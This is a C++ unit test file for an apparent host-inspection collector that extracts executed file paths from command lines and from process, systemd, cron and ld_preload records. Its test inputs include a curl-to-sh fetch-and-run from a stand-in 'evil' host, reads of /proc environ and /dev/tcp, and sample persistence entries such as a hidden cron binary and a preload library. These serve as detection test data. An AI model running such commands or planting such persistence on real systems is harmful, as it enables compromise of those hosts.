// Files that records name as running (issue 5): the command-line path extraction and what each
// record type contributes.
#include <catch2/catch.hpp>

#include <map>

#include "collectors/framework/referenced.h"

using hozen::collectors::command_paths;
using hozen::collectors::note_referenced_files;
using hozen::collectors::ReferencedFiles;
namespace v1 = hozen::v1;

TEST_CASE("command_paths: absolute words of a shell command line", "[referenced]") {
  using V = std::vector<std::string>;
  CHECK(command_paths("cd /tmp && /tmp/.x/run.sh >/dev/null 2>&1") == V{"/tmp", "/tmp/.x/run.sh"});
  CHECK(command_paths("/usr/bin/python3 \"/opt/app/main.py\" --cfg=/etc/app.conf") ==
        V{"/usr/bin/python3", "/opt/app/main.py", "/etc/app.conf"});
  // Redirect targets are written to or read from, not run; /dev, /proc, /sys are not files.
  CHECK(command_paths("/bin/x > /var/log/x.log 2>> /var/log/err < /etc/in") == V{"/bin/x"});
  CHECK(command_paths("cat /proc/1/environ /sys/kernel/x /dev/tcp/1.2.3.4/80") == V{});
  // Command substitution and pipes: each word is found.
  CHECK(command_paths("x=$(/usr/bin/id -u); `/bin/true` | /usr/bin/tee") == V{"/usr/bin/id", "/bin/true", "/usr/bin/tee"});
  // Relative words, URLs and words merely containing a slash are not paths.
  CHECK(command_paths("curl http://evil/a/b | sh ./run a/b") == V{});
  // Duplicates kept once; at most `max`.
  CHECK(command_paths("/a /a /b /c", 2) == V{"/a", "/b"});
  // Any bytes: a name with invalid UTF-8 is kept as it is.
  CHECK(command_paths(std::string("/tmp/\xff\xfe", 7)) == V{std::string("/tmp/\xff\xfe", 7)});
  CHECK(command_paths("") == V{});
  CHECK(command_paths("/") == V{});
}

TEST_CASE("note_referenced_files: what each record names as running", "[referenced]") {
  ReferencedFiles refs;
  v1::Record r;
  auto* p = r.mutable_process();
  p->set_pid(42);
  auto* ns = p->add_namespaces();
  ns->set_type("mnt");
  ns->set_inode(4026531841);
  p->set_exe_path("/usr/bin/python3.11");
  p->add_argv("python3");
  p->add_argv("/opt/app/run.py");
  p->add_argv("/etc/app.conf");
  note_referenced_files(r, refs);

  v1::Record gone;  // a deleted executable is not at its path any more
  gone.mutable_process()->set_pid(43);
  gone.mutable_process()->set_exe_path("/tmp/x (deleted)");
  gone.mutable_process()->set_exe_deleted(true);
  *gone.mutable_process()->add_namespaces() = p->namespaces(0);
  note_referenced_files(gone, refs);

  v1::Record notinterp;  // arguments of an ordinary program are data, not code
  notinterp.mutable_process()->set_pid(44);
  notinterp.mutable_process()->set_exe_path("/usr/bin/cat");
  notinterp.mutable_process()->add_argv("cat");
  notinterp.mutable_process()->add_argv("/var/log/huge.log");
  *notinterp.mutable_process()->add_namespaces() = p->namespaces(0);
  note_referenced_files(notinterp, refs);

  v1::Record unknown_view;  // no mount namespace known: its paths could be anyone's
  unknown_view.mutable_process()->set_pid(45);
  unknown_view.mutable_process()->set_exe_path("/opt/container-only/bin");

  v1::Record unit;
  unit.mutable_systemd_unit()->set_name("evil.service");
  auto* e = unit.mutable_systemd_unit()->add_exec();
  e->set_directive("ExecStart");
  e->add_argv("/bin/sh");
  e->add_argv("-c");
  e->add_argv("/usr/local/bin/agent --daemon");
  note_referenced_files(unit, refs);

  v1::Record cron;
  cron.mutable_cron_entry()->set_command_line("/var/tmp/.u/upd >/dev/null");
  cron.mutable_cron_entry()->mutable_source()->set_path("/etc/crontab");
  cron.mutable_cron_entry()->mutable_source()->set_line(7);
  note_referenced_files(cron, refs);

  v1::Record preload;
  preload.mutable_persistence_entry()->set_kind("ld_preload");
  preload.mutable_persistence_entry()->set_command("/lib/libhide.so");
  preload.mutable_persistence_entry()->mutable_source()->set_path("/etc/ld.so.preload");
  note_referenced_files(preload, refs);

  note_referenced_files(unknown_view, refs);

  std::map<std::string, std::vector<std::string>> got;
  for (const auto& [path, sources] : refs.snapshot()) {
    for (const auto& src : sources) got[path].push_back(src.text);
  }
  using V = std::vector<std::string>;
  CHECK(refs.snapshot()["/opt/app/run.py"][0].mnt_ns == 4026531841);
  CHECK(refs.snapshot()["/var/tmp/.u/upd"][0].mnt_ns == 0);
  CHECK(got.count("/opt/container-only/bin") == 0);
  CHECK(got["/usr/bin/python3.11"] == V{"process 42"});
  CHECK(got["/opt/app/run.py"] == V{"process 42"});
  CHECK(got["/etc/app.conf"] == V{"process 42"});
  CHECK(got.count("/tmp/x (deleted)") == 0);
  CHECK(got["/usr/bin/cat"] == V{"process 44"});
  CHECK(got.count("/var/log/huge.log") == 0);
  CHECK(got["/bin/sh"] == V{"unit evil.service ExecStart"});
  CHECK(got["/usr/local/bin/agent"] == V{"unit evil.service ExecStart"});
  CHECK(got["/var/tmp/.u/upd"] == V{"cron /etc/crontab:7"});
  CHECK(got["/lib/libhide.so"] == V{"persistence ld_preload /etc/ld.so.preload"});
}

TEST_CASE("ReferencedFiles: paths are normalised; '..' and relative paths are refused", "[referenced]") {
  CHECK(hozen::collectors::normalise_absolute("/usr//bin/./x/") == "/usr/bin/x");
  CHECK(hozen::collectors::normalise_absolute("//x") == "/x");
  CHECK(!hozen::collectors::normalise_absolute("/usr/../x"));
  CHECK(!hozen::collectors::normalise_absolute("x/y"));
  ReferencedFiles refs;
  refs.add("/x", "a");
  refs.add("//x", "b");
  refs.add("/./x", "c");
  refs.add("/usr/../x", "d");
  auto got = refs.snapshot();
  REQUIRE(got.size() == 1);
  CHECK(got["/x"].size() == 3);
}

TEST_CASE("ReferencedFiles: bounded", "[referenced]") {
  ReferencedFiles refs;
  for (int i = 0; i < 20; ++i) refs.add("/bin/sh", "process " + std::to_string(i));
  CHECK(refs.snapshot()["/bin/sh"].size() == ReferencedFiles::kMaxSourcesPerPath);
  refs.add("relative/path", "x");
  refs.add(std::string(ReferencedFiles::kMaxPathBytes + 1, '/'), "x");
  CHECK(refs.snapshot().size() == 1);
  for (std::size_t i = 0; i < ReferencedFiles::kMaxPaths + 10; ++i) refs.add("/f" + std::to_string(i), "x");
  CHECK(refs.snapshot().size() == ReferencedFiles::kMaxPaths);
  CHECK(refs.dropped() == 11);  // "/bin/sh" took one slot
  // Total bytes are bounded too: 4 KiB paths fill the 8 MiB well before the path count.
  ReferencedFiles big;
  for (int i = 0; i < 4000; ++i) big.add("/" + std::to_string(i) + std::string(4000, 'p'), "cron");
  CHECK(big.snapshot().size() < 2100);
  CHECK(big.dropped() > 1900);
  CHECK(big.take().size() < 2100);
  CHECK(big.snapshot().empty());
}
